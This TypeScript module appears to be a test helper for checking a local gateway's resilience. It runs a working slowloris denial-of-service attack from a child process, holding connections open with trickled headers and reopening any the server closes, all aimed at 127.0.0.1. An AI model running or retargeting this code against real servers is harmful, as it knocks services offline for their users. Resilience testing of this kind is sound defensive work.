import { spawn } from 'node:child_process';

export interface SlowlorisPlan {
  port: number;
  /** How many connections to hold from each local address (127.0.0.0/8 all reach loopback). */
  from: Array<{ address: string; connections: number }>;
  /** A header line is sent on each connection this often, so its headers never end; default 500. */
  trickleMs?: number;
}

export interface SlowlorisTally {
  /** Connections opened, reopens included. */
  opened: number;
  /** Connections the server closed. */
  closed: number;
  /** Connections open at the end. */
  holding: number;
}

// The attacker, in a process of its own (it must not share the gateway's event loop): each
// connection sends a request line and then a header line now and then, never the end of its
// headers; a connection the server closes is opened again at once.
const ATTACKER = `
const net = require('node:net');
const { port, from, trickleMs } = JSON.parse(process.env.SLOWLORIS_PLAN);
const sockets = new Set();
let opened = 0, closed = 0, stopping = false;
function open(address) {
  if (stopping) return;
  const socket = net.connect({ port, host: '127.0.0.1', localAddress: address });
  opened += 1;
  sockets.add(socket);
  let timer;
  socket.on('connect', () => {
    socket.write('GET /healthz HTTP/1.1\\r\\nHost: x\\r\\n');
    timer = setInterval(() => socket.write('X-Slow: 1\\r\\n'), trickleMs);
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    clearInterval(timer);
    sockets.delete(socket);
    if (stopping) return;
    closed += 1;
    setImmediate(open, address);
  });
}
for (const { address, connections } of from) for (let i = 0; i < connections; i++) open(address);
process.on('message', () => {
  const holding = sockets.size;
  stopping = true;
  for (const socket of sockets) socket.destroy();
  process.send({ opened, closed, holding }, () => process.exit(0));
});
`;

/**
 * Starts a slowloris attack on a local server from a child process; `stop()` ends it and says
 * what it did.
 */
export function startSlowloris(plan: SlowlorisPlan): { stop(): Promise<SlowlorisTally> } {
  const child = spawn(process.execPath, ['-e', ATTACKER], {
    stdio: ['ignore', 'inherit', 'inherit', 'ipc'],
    env: { ...process.env, SLOWLORIS_PLAN: JSON.stringify({ trickleMs: 500, ...plan }) },
  });
  return {
    stop: () =>
      new Promise((resolve, reject) => {
        child.once('message', (tally: SlowlorisTally) => resolve(tally));
        child.once('exit', (code) => reject(new Error(`the attacker exited with ${code}`)));
        child.send('stop');
      }),
  };
}
